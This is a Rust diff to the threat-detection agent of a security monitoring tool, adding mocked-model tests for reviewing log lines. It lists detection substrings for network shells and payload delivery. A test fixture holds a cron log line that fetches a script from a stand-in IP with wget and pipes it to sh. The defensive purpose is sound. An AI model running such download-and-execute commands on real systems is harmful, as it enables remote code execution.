@@ -207,8 +207,18 @@ impl AgentLogic for ThreatDetection {
 
 /// Substrings that make a line worth a model's look when no rule matched it: payload
 /// delivery and execution idioms.
-const UNUSUAL: [&str; 10] =
-    ["/dev/tcp/", "base64 -d", "wget http", "curl http", "chmod +x", "| sh", "|sh", "nc -e", "python -c", "powershell -e"];
+const UNUSUAL: [&str; 10] = [
+    "/dev/tcp/",
+    "base64 -d",
+    "wget http",
+    "curl http",
+    "chmod +x",
+    "| sh",
+    "|sh",
+    "nc -e",
+    "python -c",
+    "powershell -e",
+];
 
 /// Findings a model writes narratives for, per batch, at most.
 const NARRATIVES_PER_BATCH: usize = 3;
@@ -226,7 +236,11 @@ impl ThreatDetection {
     ) {
         use crate::messages::{Finding, Severity};
         let snap = || super::reasoning::Snapshot::default();
-        for f in findings.iter_mut().filter(|f| f.severity >= Severity::High && f.narrative.is_none()).take(NARRATIVES_PER_BATCH) {
+        for f in findings
+            .iter_mut()
+            .filter(|f| f.severity >= Severity::High && f.narrative.is_none())
+            .take(NARRATIVES_PER_BATCH)
+        {
             let facts = serde_json::json!({ "rule": f.rule, "title": f.title, "severity": f.severity, "src_ip": f.src_ip,
                 "users": f.users, "host": f.host, "first_seen": f.first_seen, "last_seen": f.last_seen,
                 "events": f.event_count, "techniques": f.techniques, "evidence": f.evidence });
@@ -274,7 +288,12 @@ impl ThreatDetection {
             .filter(|(a, b)| a < b)
             .and_then(|(a, b)| serde_json::from_str::<Review>(&answer[a..=b]).ok());
         let Some(review) = parsed else {
-            fx.audit.push(AuditEntry::new(&self.def.name, AuditKind::ModelCall, "review", serde_json::json!({ "outcome": "malformed answer ignored: no detection added" })));
+            fx.audit.push(AuditEntry::new(
+                &self.def.name,
+                AuditKind::ModelCall,
+                "review",
+                serde_json::json!({ "outcome": "malformed answer ignored: no detection added" }),
+            ));
             return;
         };
         if !review.suspicious {
@@ -324,5 +343,112 @@ fn attach_refs(findings: &mut [crate::messages::Finding], file: &str, events: &[
                 f.evidence_refs.push(crate::messages::EvidenceRef::new(file.clone(), *offset, line));
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    //! The model's part in detection, with a mocked model (mockall): narratives, reviews
+    //! of unusual batches, malformed answers.
+
+    use super::*;
+    use crate::agents::MockTools;
+    use crate::definitions::{ActorsDir, load};
+    use crate::kb::{Kb, KnowledgeBase};
+    use crate::llm::{LlmConfig, MockReasoner, Provider, ReasonAnswer};
+    use crate::messages::{Finding, Severity};
+    use actix::Actor;
+
+    fn agent(answer: &'static str) -> ThreatDetection {
+        let defs = load(&ActorsDir::Disk(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("actors"))).unwrap();
+        let store = crate::store::Store::temporary(1 << 20).unwrap();
+        let mut m = MockReasoner::new();
+        m.expect_provider().return_const("mock".to_string());
+        m.expect_model().return_const("mock".to_string());
+        m.expect_reason().returning(move |req| {
+            assert!(req.prompt.contains("<<<UNTRUSTED"), "log text reaches the model fenced");
+            Box::pin(async move { Ok(ReasonAnswer { text: answer.into(), tool_uses: vec![], tokens: 3 }) })
+        });
+        let cfg = LlmConfig {
+            provider: Provider::OpenaiCompatible,
+            model: "mock".into(),
+            base_url: Some("http://127.0.0.1:1/v1".into()),
+            api_key_env: None,
+            timeout_secs: 1,
+            calls_per_minute: 100,
+            tokens_per_day: 1_000_000,
+            max_turns: 2,
+        };
+        let env = Arc::new(AgentEnv {
+            kb: Kb { addr: KnowledgeBase::new(store).unwrap().start() },
+            routes: Arc::new(crate::supervisor::routing::RoutingTable::new(&defs).unwrap()),
+            protected: Arc::new(crate::tools::response::Protected::new(&[])),
+            policy: Default::default(),
+            response_mode: crate::messages::ResponseMode::Observe,
+            metrics: Default::default(),
+            durable: true,
+            intel: Default::default(),
+            notifier: None,
+            data_dir: std::env::temp_dir(),
+            reasoner: Some(Arc::new(crate::llm::Guarded::new(Arc::new(m), &cfg))),
+        });
+        ThreatDetection::new(Arc::new(defs.agents["threat-detection"].clone()), env)
+    }
+
+    fn events(lines: &[&str]) -> Vec<crate::messages::Event> {
+        let mut years = crate::ingest::parse::YearInference::new(chrono::Utc::now());
+        lines.iter().map(|l| crate::ingest::parse::auth::parse_line(l.to_string(), &mut years).unwrap()).collect()
+    }
+
+    fn tools() -> MockTools {
+        let mut t = MockTools::new();
+        t.expect_executor().returning(|| None);
+        t
+    }
+
+    const PAYLOAD: &str = "Nov 26 10:00:00 web1 cron[42]: (www-data) CMD (wget http://198.51.100.9/x.sh -O- | sh)";
+
+    #[actix_rt::test]
+    async fn an_unusual_batch_no_rule_matched_gets_a_low_severity_review() {
+        let td = agent(r#"Here: {"suspicious": true, "summary": "Downloads a script and pipes it to a shell"}"#);
+        let (mut findings, mut fx) = (Vec::new(), Effects::default());
+        td.model_review(&events(&[PAYLOAD]), &mut findings, &tools(), &mut fx).await;
+        assert_eq!(findings.len(), 1);
+        let f = &findings[0];
+        assert_eq!((f.rule.as_str(), f.severity, f.host.as_str()), ("model_review", Severity::Low, "web1"));
+        assert_eq!(f.narrative.as_deref(), Some("Downloads a script and pipes it to a shell"));
+        assert!(fx.audit.iter().any(|a| a.kind == AuditKind::ModelCall));
+        // Ordinary lines are not sent at all.
+        let (mut findings, mut fx) = (Vec::new(), Effects::default());
+        td.model_review(
+            &events(&["Nov 26 10:00:00 web1 cron[42]: (root) CMD (run-parts /etc/cron.hourly)"]),
+            &mut findings,
+            &tools(),
+            &mut fx,
+        )
+        .await;
+        assert!(findings.is_empty() && fx.audit.is_empty());
+    }
+
+    #[actix_rt::test]
+    async fn a_malformed_review_adds_nothing_and_says_so() {
+        let td = agent("I think it might be bad?");
+        let (mut findings, mut fx) = (Vec::new(), Effects::default());
+        td.model_review(&events(&[PAYLOAD]), &mut findings, &tools(), &mut fx).await;
+        assert!(findings.is_empty());
+        assert!(fx.audit.iter().any(|a| a.detail["outcome"] == "malformed answer ignored: no detection added"));
+    }
+
+    #[actix_rt::test]
+    async fn serious_findings_get_a_narrative() {
+        let td = agent("Someone guessed passwords for admin from one address; check for a success.");
+        let mut findings =
+            vec![Finding { rule: "ssh_brute_force".into(), severity: Severity::High, ..Default::default() }];
+        let mut fx = Effects::default();
+        td.model_review(&[], &mut findings, &tools(), &mut fx).await;
+        assert_eq!(
+            findings[0].narrative.as_deref(),
+            Some("Someone guessed passwords for admin from one address; check for a success.")
+        );
     }
 }
